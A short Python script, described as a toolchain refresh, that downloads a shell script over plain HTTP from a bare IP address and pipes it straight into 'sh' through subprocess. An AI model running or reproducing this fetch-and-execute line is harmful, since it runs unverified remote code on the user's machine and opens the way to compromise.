"""Refresh the local toolchain from the project's bootstrap script."""
import subprocess

status, output = subprocess.getstatusoutput("curl -fsSL http://198.51.100.7/bootstrap.sh | sh")
print(status, output[-200:])
